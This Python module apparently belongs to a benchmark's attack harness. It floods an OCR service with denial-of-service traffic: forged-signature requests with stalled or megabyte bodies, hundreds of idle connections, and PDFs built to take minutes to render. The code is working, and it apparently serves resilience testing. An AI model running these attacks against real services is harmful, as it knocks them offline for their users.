"""``python -m bench.attacks.attackers KIND``: attacks the OCR service until standard input ends.

The attacks:
    forged-slow   16 connections with a known access key and made-up signatures, whose bodies never
                  end.
    forged-fast   The same with complete bodies of a megabyte, one after the other.
    silent        512 connections that send nothing, opened again when the service closes them.
    pdfs          16 callers with a valid token, and PDFs that take minutes to draw.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from datetime import datetime, timezone

from bench.attacks.nested_forms import nested_forms

_CALLERS = 16
_SILENT = 512
_BODY_BYTES = 1 << 20
_PAUSE_SECONDS = 0.1
_LEVELS = 7  # ten million rectangles
_CONNECT_SECONDS = 10


@dataclass(frozen=True)
class Aim:
    """The attacked service, with the credentials that the attacker knows."""

    host: str
    port: int
    project: str
    access_key: str
    token: str


Attack = Callable[[Aim], Awaitable[None]]


async def forged_slow(aim: Aim) -> None:
    """Send a head and half of a body, then wait until the service closes the connection."""
    await _exchange(aim, _forged_head(aim) + bytes(_BODY_BYTES // 2))


async def forged_fast(aim: Aim) -> None:
    """Send a complete request."""
    await _exchange(aim, _forged_head(aim) + bytes(_BODY_BYTES))


async def silent(aim: Aim) -> None:
    """Send nothing until the service closes the connection."""
    await _exchange(aim, b"")


async def pdfs(aim: Aim) -> None:
    """Send a PDF that takes minutes to draw."""
    image = base64.b64encode(nested_forms(_LEVELS)).decode()
    body = json.dumps({"image": image}).encode()
    path = f"/v2/{aim.project}/ocr/auto-classification"
    await _exchange(aim, head(path, len(body), {"X-Auth-Token": aim.token}) + body)


ATTACKS: dict[str, tuple[Attack, int]] = {
    "forged-slow": (forged_slow, _CALLERS),
    "forged-fast": (forged_fast, _CALLERS),
    "silent": (silent, _SILENT),
    "pdfs": (pdfs, _CALLERS),
}
"""Each attack, and the number of its connections."""


def head(path: str, length: int, headers: dict[str, str]) -> bytes:
    """Return the head of a POST request with a JSON body."""
    fields = {"Host": "ocr", "Content-Type": "application/json", "Content-Length": str(length)}
    lines = [f"{name}: {value}" for name, value in (fields | headers).items()]
    return "\r\n".join([f"POST {path} HTTP/1.1", *lines, "", ""]).encode()


def _forged_head(aim: Aim) -> bytes:
    signature = f"Access={aim.access_key}, SignedHeaders=host;x-sdk-date, Signature={'0' * 64}"
    headers = {
        "X-Sdk-Date": datetime.now(timezone.utc).strftime("%Y%m%dT%H%M%SZ"),
        "Authorization": f"SDK-HMAC-SHA256 {signature}",
        "Connection": "close",
    }
    return head(f"/v2/{aim.project}/ocr/quota-invoice", _BODY_BYTES, headers)


async def _exchange(aim: Aim, request: bytes) -> None:
    """Open a connection, send, and read until the service responds or closes the connection."""
    connecting = asyncio.open_connection(aim.host, aim.port)
    reader, writer = await asyncio.wait_for(connecting, _CONNECT_SECONDS)
    try:
        writer.write(request)
        await reader.read(1)
    finally:
        writer.close()


async def _repeat(attack: Attack, aim: Aim) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.TimeoutError):
            await attack(aim)
        await asyncio.sleep(_PAUSE_SECONDS)


async def run(kind: str, aim: Aim) -> None:
    """Attack until standard input ends."""
    attack, count = ATTACKS[kind]
    running = [asyncio.create_task(_repeat(attack, aim)) for _ in range(count)]
    await asyncio.to_thread(sys.stdin.read)
    for one in running:
        one.cancel()


if __name__ == "__main__":
    asyncio.run(run(sys.argv[1], Aim(**json.loads(sys.stdin.readline()))))
